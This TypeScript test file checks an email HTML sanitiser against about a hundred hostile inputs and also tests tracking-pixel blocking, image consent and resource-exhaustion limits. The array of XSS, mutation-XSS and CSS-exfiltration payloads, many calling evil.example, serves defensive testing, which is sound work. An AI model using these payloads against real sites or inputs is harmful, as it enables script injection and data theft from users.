// Hostile vectors of our own, each held against the grammar of what may come out; then what
// must survive, because a mail that cannot be read is not safe either.
import assert from 'node:assert/strict'
import test from 'node:test'
import { assertSafeHtml } from '../../testing/assert-safe-html.ts'
import { sanitise } from './sanitise.ts'

const PIXELS = 'data:image/png;base64,iVBORw0KGgo='

const HOSTILE = [
  '<script>alert(1)</script>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<img src=x onerror=alert(1)>', '<img/src="x"/onerror=alert(1)//', '<body onload=alert(1)>text</body>',
  '<a href="javascript:alert(1)">x</a>', '<a href="jav&#x09;ascript:alert(1)">x</a>', '<a href=" &#14; javascript:alert(1)">x</a>', '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>', '<a href="//evil.example">x</a>', '<a href="/api/v1/auth/logout">x</a>', '<a href="\\\\evil.example">x</a>', '<a href="https://a.example" onclick=alert(1)>x</a>',
  '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', '<svg><filter><feImage href="https://evil.example/x"/></filter></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form action="https://evil.example"><input name=p><button formaction="javascript:alert(1)">Go</button></form>', '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/"><img src="x.png">', '<link rel=stylesheet href="https://evil.example/a.css">', '<link rel="dns-prefetch" href="//evil.example">', '<object data="https://evil.example/x.swf"></object>',
  '<embed src="javascript:alert(1)">', '<iframe src="https://evil.example"></iframe>', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', '<video src="https://evil.example/v" poster="https://evil.example/p"></video>',
  '<audio src="https://evil.example/a">', '<picture><source srcset="https://evil.example/s"><img src="https://evil.example/i.png"></picture>', '<img srcset="https://evil.example/2x 2x">', '<img src="//evil.example/i.png">',
  '<img src="https:evil.example/i.png">', '<img src="\\\\evil.example\\i.png">', '<img src="h\nttps://evil.example/i.png">', '<img lowsrc="https://evil.example/l" dynsrc="https://evil.example/d">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">', '<img src="data:text/html;base64,PHNjcmlwdD4=">', '<img src="file:///etc/passwd">', '<img src="/api/v1/settings">', '<table background="https://evil.example/b.png"><tr><td>x</td></tr></table>',
  '<div style="background:url(https://evil.example/b)">x</div>', '<div style="background:u\\72l(https://evil.example/b)">x</div>', '<div style="background:url/**/(https://evil.example/b)">x</div>',
  '<div style="background-image:image-set(\'https://evil.example/b\' 1x)">x</div>', '<div style="width:expression(alert(1))">x</div>', '<div style="behavior:url(#default#time2)">x</div>', '<div style="-moz-binding:url(//evil.example/x#x)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">over</div>', '<div style="list-style:url(https://evil.example/l)">x</div>', '<div style="content:url(https://evil.example/c)">x</div>', '<div style="cursor:url(https://evil.example/c),auto">x</div>',
  '<div style="color:red;&quot;><script>alert(1)</script>">x</div>', '<div style="font-family:\'</style><script>alert(1)</script>\'">x</div>', '<div style="--x:url(https://evil.example);background:var(--x)">x</div>',
  '<style>@import "https://evil.example/a.css";</style>', '<style>@import url(//evil.example/a.css);p{color:red}</style>', '<style>@font-face{font-family:x;src:url(https://evil.example/f)}</style>',
  '<style>input[value^=a]{background:url(https://evil.example/a)}</style>', '<style>p{background:url(https://evil.example/b)}</style>', '<style>p{color:red}</style/><script>alert(1)</script>', '<style></style><img src=x onerror=alert(1)></style>',
  '<style>a{}</style ><svg onload=alert(1)>', '<style>p{color:"</style><script>alert(1)</script>"}</style>', '<style>.x{color:red}/*</style><img src=x onerror=alert(1)>*/', '<style>html{position:fixed}#app{display:none}@media screen{@import "x";p{color:red}}</style>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', '<textarea><p title="</textarea><img src=x onerror=alert(1)>">', '<title><p title="</title><img src=x onerror=alert(1)>">', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->', '<!--><img src=x onerror=alert(1)>-->', '<!-- --!><img src=x onerror=alert(1)>', '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>', '<template><img src=x onerror=alert(1)></template>', '<select><template><style><!--</style><a rel="--><img src=x onerror=alert(1)>"></template></select>', '<plaintext><img src=x onerror=alert(1)>',
  '<a id="location" name="cookie">x</a><form id=getElementById></form>', '<p class="app modal" id="root">x</p>', '<x-app onclick=alert(1)>x</x-app>', '<p is="x-app">x</p>', '<marquee onstart=alert(1)>x</marquee>', '<details open ontoggle=alert(1)>x</details>',
  '<a href="https://evil.example" ping="https://evil.example/p">x</a>', '<p tabindex=1 onfocus=alert(1) autofocus contenteditable>x</p>', '<p style="color:red" style="background:url(//evil.example)">x</p>', '<img src="cid:x" onerror=alert(1)>',
  '<img usemap="#m"><map name=m><area href="javascript:alert(1)"></map>', '<<img src=x onerror=alert(1)>', '<p title=\'"><img src=x onerror=alert(1)>\'>x</p>', '<p title="`><img src=x onerror=alert(1)>">x</p>', '<a href="https://a.example/?&quot;><img src=x onerror=alert(1)>">x</a>',
  `${'<div>'.repeat(300)}<style><img src=x onerror=alert(1)></style>`, `${'<div>'.repeat(300)}<script><img src=x onerror=alert(1)></script>`, `${'<a href=https://a.example>'.repeat(300)}x`, '<frameset onload=alert(1)><frame src="https://evil.example">',
  '\u0000<scr\u0000ipt>alert(1)</script>', '<img src="x` `<script>alert(1)</script>"` `>', '<a href="mailto:a@example.org?attach=/etc/passwd">x</a>', '<a href="ms-msdt:/id">x</a>', '<a href="intent://x#Intent;end">x</a>', '<a href="blob:x">x</a>',
]
for (const vector of HOSTILE) {
  test(`nothing of it acts: ${vector.slice(0, 90)}`, () => {
    assertSafeHtml(sanitise(vector), vector)
    assertSafeHtml(sanitise(vector, { remote: (index) => `/own/${index}`, inline: () => PIXELS }), vector, { remote: /^\/own\/\d+$/ })
  })
}

test('what is cleaned once stays as it is', () => {
  for (const vector of HOSTILE) {
    const { html } = sanitise(vector)
    assert.equal(sanitise(html).html.replaceAll('m-m-', 'm-'), html, vector)
  }
})

test('an ordinary mail keeps its words, order and looks', () => {
  const { html, css } = sanitise(
    '<html><head><title>T</title><style>body{background:#eee}.a, p > .b:hover{color:#123;font:bold 14px/1.4 "Open Sans",Arial}@media (max-width:600px){.a{width:100%!important}}</style></head><body bgcolor="#fafafa" style="margin:0"><table width="600" cellpadding=0><tr><td class="a x" align=center style="padding:4px 8px;COLOR:rgb(1, 2, 3)">Bună, <b>Ana</b> &amp; Ștefan &lt;3</td></tr></table></body></html>',
  )
  assert.equal(html, '<div bgcolor="#fafafa" style="margin:0"><table width="600" cellpadding="0"><tr><td class="m-a m-x" align="center" style="padding:4px 8px;color:rgb(1, 2, 3)">Bună, <b>Ana</b> &amp; Ștefan &lt;3</td></tr></table></div>')
  assert.equal(css, '.mail{background:#eee}\n.mail .m-a,.mail p > .m-b:hover{color:#123;font:bold 14px/1.4 "Open Sans",Arial}\n@media (max-width:600px){.mail .m-a{width:100% !important}}')
})

test('links open outside, tell nothing, and name their host', () => {
  const { html } = sanitise('<a href="https://shop.example/a?b=1&amp;c=2" title="safe">Order</a> <a href="#top">up</a> <a name="top"></a>')
  assert.equal(html, '<a target="_blank" rel="noopener noreferrer nofollow" href="https://shop.example/a?b=1&amp;c=2" title="shop.example">Order</a> <a href="#m-top">up</a> <a id="m-top"></a>')
})

const REMOTE = '<img src="https://a.example/one.png" alt="One"><table background="//b.example/two.jpg"><tr><td style="background:#fff url(\'https://c.example/three.png\') no-repeat">x</td></tr></table><img src="https://a.example/one.png">'

test('remote pictures are held back, counted once each, and numbered in order', () => {
  const safe = sanitise(REMOTE)
  assert.deepEqual(safe.remoteImages, ['https://a.example/one.png', 'https://b.example/two.jpg', 'https://c.example/three.png'])
  assert.doesNotMatch(safe.html + safe.css, /example/)
  assert.match(safe.html, /<img alt="One" \/>/)
})

test('after consent they come from our own address, by number only', () => {
  const { html } = sanitise(REMOTE, { remote: (index) => `/api/v1/mail/7/images/${index}` })
  assert.deepEqual([...html.matchAll(/\/api\/v1\/mail\/7\/images\/(\d)/g)].map(([, index]) => index), ['0', '1', '2', '0'])
  assert.doesNotMatch(html, /example/)
})

for (const pixel of ['<img src="https://n.example/a/x9" width=1 height=1>', '<img src="https://n.example/a/x9" style="display:none">', '<img src="https://n.example/a/x9" width="0">', '<img src="https://n.example/wf/open?upn=abcdefghijklmnopqrstuvwxyz0123">', '<img src="https://click.n.example/q/aaaaaaaa">', '<img src="https://n.example/open.gif?id=1">', '<img style="width:1px;height:1px" src="https://n.example/logo.png">']) {
  test(`a watching pixel is never offered: ${pixel}`, () => {
    const safe = sanitise(pixel, { remote: (index) => `/own/${index}` })
    assert.deepEqual([safe.remoteImages, safe.trackers], [[], 1])
    assert.doesNotMatch(safe.html, /src=/)
  })
}

test('a ruler and a logo are pictures', () => {
  assert.equal(sanitise('<img src="https://n.example/static/ruler-grey.png" height=1 width=600><img src="https://cdn.n.example/images/company-logo.png">').trackers, 0)
})

test('a picture inside the mail is shown from the mail', () => {
  const inline = (id: string) => (id === 'logo@x' ? PIXELS : '')
  assert.match(sanitise('<img src="cid:logo%40x">', { inline }).html, /src="data:image\/png/)
  assert.equal(sanitise('<img src="cid:other">', { inline }).html, '<img />')
  assert.match(sanitise('<img src="cid:a">', { inline: () => '/api/v1/mail/7/parts/2' }).html, /src="\/api\/v1\/mail\/7\/parts\/2"/)
  assert.equal(sanitise('<img src="cid:a">', { inline: () => 'https://evil.example/a.png' }).html, '<img />')
})

test('pictures inside the mail have a size at which they stay out', () => {
  const big = `data:image/png;base64,${'A'.repeat(6_000_000)}`
  assert.equal(sanitise('<img src="cid:a">', { inline: () => big }).html, '<img />')
})

test('a mail too large to clean says so instead of being cut', () => {
  const safe = sanitise('x'.repeat(3_000_001))
  assert.deepEqual([safe.html, safe.tooLarge], ['', true])
})

test('a tower of elements is not climbed; an old list without end tags is', () => {
  assert.equal(sanitise('<div>'.repeat(100_000)).tooLarge, true)
  assert.match(sanitise('<ul>' + '<li>x'.repeat(5_000)).html, /<li>x/)
})

test('built to exhaust, it ends', { timeout: 20_000 }, () => {
  for (const bomb of ['<div>'.repeat(100_000), '<style>'.repeat(100_000), '<a href="'.repeat(50_000), '<!--'.repeat(100_000), `<p style="${'a:b('.repeat(50_000)}">`, `<style>${'a{'.repeat(50_000)}</style>`, `<style>${'@media x{'.repeat(30_000)}</style>`, `<p class="${'a '.repeat(100_000)}">`]) {
    assertSafeHtml(sanitise(bomb), bomb.slice(0, 20))
  }
})

test('long runs that several parts of a pattern could share out end too', { timeout: 60_000 }, () => {
  const blanks = ' '.repeat(300_000)
  const text = (html: string) => sanitise(html)
  assert.doesNotMatch(text(`<p style="background:url(${blanks}x">a</p>`).html, /url/)
  assert.equal(text(`<style>@media${blanks}!{a{color:red}}</style><p>a`).css, '')
  assert.match(text(`<style>@media${blanks}print{a{color:red}}</style><p>a`).css, /^@media print/)
  assert.match(text(`<p style="color:red${blanks}!important">a</p>`).html, /color:red !important/)
  assert.equal(text(`<img src="https://a.example/${'track'.repeat(60_000)}!">`).trackers, 0)
  assert.equal(text('<img src="https://a.example/x/mytrackers/1.png">').trackers, 1)
})
